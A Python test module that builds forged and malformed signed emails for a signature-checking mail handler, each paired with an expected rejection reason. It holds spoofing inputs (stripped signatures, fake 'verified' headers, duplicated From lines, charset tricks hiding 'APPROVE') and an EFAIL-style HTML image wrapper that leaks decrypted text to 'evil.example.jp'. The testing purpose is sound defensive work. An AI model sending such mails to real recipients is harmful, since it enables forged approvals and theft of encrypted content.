"""Attacks by what a mail leaves out, says twice or encodes strangely: SM6 to SM9."""

import base64
from collections.abc import Callable

from handlers.rules.reasons import Reason
from tests.corpus.forging import Attack, Forge, mail, opaque_cms, wrap
from tests.corpus.mime import multipart, text_part

Maker = Callable[[Forge], bytes]


def _sm6() -> list[Attack]:
    partial, unsigned = Reason.PARTIAL_SIGNATURE, Reason.UNSIGNED
    rows = [
        ("never signed", lambda f: mail(f.entity()), unsigned),
        ("the signature part taken away", lambda f: mail(multipart("mixed", "=-m", [f.entity()])), unsigned),
        ("multipart/signed turned into mixed",
         lambda f: f.good().replace(b"multipart/signed", b"multipart/mixed"), partial),
        ("an empty signature part", lambda f: mail(wrap(f.entity(), b"")), Reason.SIGNATURE_BLOCK),
        ("armor lines as text only",
         lambda f: mail(text_part(f.text() + "-----BEGIN PGP SIGNATURE-----\n\n=AAAA\n")), unsigned),
        ("a code and a reply token's shape", lambda f: mail(text_part(f"取下げ\n{f.quote()}")), unsigned),
        ("DKIM passes",
         lambda f: mail(f.entity(), extra=b"Authentication-Results: mx.example.ac.jp; dkim=pass\r\n"), unsigned),
        ("a header that says it is verified", lambda f: mail(f.entity(), extra=b"X-PGP-Signature: good\r\n"), unsigned),
    ]  # fmt: skip
    return [Attack("SM6", name, make, reason) for name, make, reason in rows]


def _twice_outside(line: bytes) -> Maker:
    return lambda f: f.good().replace(b"MIME-Version: 1.0\r\n", b"MIME-Version: 1.0\r\n" + line + b"\r\n")


def _twice_inside(*lines: bytes) -> Maker:
    head = b"".join(line + b"\r\n" for line in lines)
    return lambda f: f.of_entity(head + f.entity())


def _of_type(before: bytes, after: bytes) -> Maker:
    """The signed part's own Content-Type line, changed before it is signed."""
    return lambda f: f.of_entity(f.entity().replace(before, after))


def _sm7() -> list[Attack]:
    outside = (
        b"From: evil@example.jp",
        b"Subject: again",
        b"Date: Mon, 23 Nov 2026 10:00:00 +0900",
        b"To: other@example.jp",
        b"Message-ID: <3@example.jp>",
        b"MIME-Version: 1.0",
        b"Content-Type: text/plain",
        b"Sender: a@example.jp\r\nSender: b@example.jp",
        b"Reply-To: a@example.jp\r\nReply-To: b@example.jp",
        b"Content-Transfer-Encoding: 7bit\r\nContent-Transfer-Encoding: base64",
        b"from : evil@example.jp",
    )
    rows = [(f"outside: {line.decode()[:30].strip()!r}", _twice_outside(line)) for line in outside]
    rows += [
        ("inside: From", _twice_inside(b"From: suzuki@example.ac.jp", b"From: evil@example.jp")),
        ("inside: Subject", _twice_inside(b"Subject: a", b"Subject: b")),
        ("inside: Content-Type", _twice_inside(b"Content-Type: text/html")),
        ("inside: Content-Transfer-Encoding", _twice_inside(b"Content-Transfer-Encoding: base64")),
        ("inside: charset", _of_type(b"charset=utf-8", b"charset=utf-8; charset=iso-2022-jp")),
        ("inside: charset in pieces too", _of_type(b"charset=utf-8", b"charset=utf-8; charset*0=euc; charset*1=-jp")),
        ("inside: format", _of_type(b"charset=utf-8", b"charset=utf-8; format=flowed; format=fixed")),
        ("boundary", lambda f: f.good().replace(b"; micalg", b'; boundary="=-other"; micalg')),
        ("boundary in pieces too", lambda f: f.good().replace(b"; boundary=", b'; boundary=x; boundary*0=')),
        ("protocol", lambda f: f.good().replace(b"; protocol=", b"; protocol=x; protocol=")),
    ]  # fmt: skip
    return [Attack("SM7", name, make, Reason.DUPLICATE_HEADER) for name, make in rows]


def _sm8() -> list[Attack]:
    version = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1"
    octets = b"Content-Type: application/octet-stream\r\n\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQ==\r\n"
    image = text_part('<img src="http://evil.example.jp/?', subtype="html")
    enveloped = "application/pkcs7-mime; smime-type=enveloped-data"
    message = "-----BEGIN PGP MESSAGE-----\n\nhQ==\n-----END PGP MESSAGE-----\n"
    rows: list[tuple[str, Maker]] = [
        ("encrypted",
         lambda f: mail(multipart("encrypted", "=-e", [version, octets], '; protocol="application/pgp-encrypted"'))),
        ("an image around it", lambda f: mail(multipart("mixed", "=-m", [
            image, multipart("encrypted", "=-e", [version, octets]), text_part('">', subtype="html")]))),
        ("S/MIME, enveloped", lambda f: mail(opaque_cms(b"0\x80\0\0", enveloped))),
        ("S/MIME, a part enveloped",
         lambda f: mail(multipart("mixed", "=-m", [f.entity(), opaque_cms(b"0", enveloped)]))),
        ("inline", lambda f: mail(text_part(message + f.text()))),
        ("signed around encrypted", lambda f: f.of_entity(multipart("encrypted", "=-e", [version, octets]))),
        ("signed text with a message in it", lambda f: f.of_text(f.text() + message)),
    ]  # fmt: skip
    return [Attack("SM8", name, make, Reason.ENCRYPTED) for name, make in rows]


def _in_charset(charset: str, codec: str) -> Maker:
    """`charset` as labelled, `codec` as the bytes are."""

    def make(f: Forge) -> bytes:
        octets = f.text().replace("\n", "\r\n").encode(codec, "ignore")
        head = f"Content-Type: text/plain; charset={charset}\r\nContent-Transfer-Encoding: base64\r\n\r\n"
        return f.of_entity(head.encode() + base64.encodebytes(octets).replace(b"\n", b"\r\n"))

    return make


def _raw(label: str, octets: bytes) -> Maker:
    """A part with these bytes before the quote."""
    head = f"Content-Type: text/plain; charset={label}\r\nContent-Transfer-Encoding: 8bit\r\n\r\n".encode()
    return lambda f: f.of_entity(head + octets + b"\r\n" + f.request.code.encode())


def _encoded(encoding: str, body: bytes) -> Maker:
    head = (
        f"Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: {encoding}\r\n\r\n".encode()
    )
    return lambda f: f.of_entity(head + body)


def _sm9() -> list[Attack]:
    bad = Reason.BAD_CHARSET
    strange = (
        ("unicode_escape", "unicode_escape"),
        ("raw_unicode_escape", "raw_unicode_escape"),
        ("utf-7", "utf-7"),
        ("utf-16", "utf-16"),
        ("utf-16le", "utf-16le"),
        ("utf-32", "utf-32"),
        ("iso-2022-kr", "iso2022_kr"),
        ("hz-gb-2312", "hz"),
        ("idna", "ascii"),
        ("rot13", "ascii"),
        ("cp037", "cp037"),
        ("gb18030", "gb18030"),
        ("utf-8-sig", "utf-8-sig"),
        ("us-ascii", "utf-8"),
        ("utf-8", "cp932"),
        ("euc-jp", "utf-8"),
    )
    rows = [(f"labelled {label}, in {codec}", _in_charset(label, codec), bad) for label, codec in strange]
    rows += [
        ("overlong UTF-8", _raw("utf-8", b"\xc1\x81PPROVE"), bad),
        ("a surrogate in UTF-8", _raw("utf-8", b"\xed\xa0\x80APPROVE"), bad),
        ("half a character of ISO-2022-JP", _raw("iso-2022-jp", b"\x1b$B>5G\x1b(B"), bad),
        ("an escape of another set", _raw("iso-2022-jp", b"\x1b$A>5\x1b(BAPPROVE"), Reason.CONTROL_CHARACTER),
        ("eight bits in ISO-2022-JP", _raw("iso-2022-jp", "承認".encode()), bad),
        ("Latin-1 over UTF-8", _raw("iso-8859-1", "承認".encode()), Reason.CONTROL_CHARACTER),
        ("broken quoted-printable", _encoded("quoted-printable", b"APPROVE=ZZ"), Reason.BROKEN_SIGNED_MAIL),
        ("broken base64", _encoded("base64", b"QVBQUk9WRQ==QVBQ"), Reason.BROKEN_SIGNED_MAIL),
        ("uuencoded", _encoded("x-uuencode", b"begin 644 x\r\n"), Reason.BROKEN_SIGNED_MAIL),
    ]
    return [Attack("SM9", name, make, reason) for name, make, reason in rows]


ATTACKS = (*_sm6(), *_sm7(), *_sm8(), *_sm9())
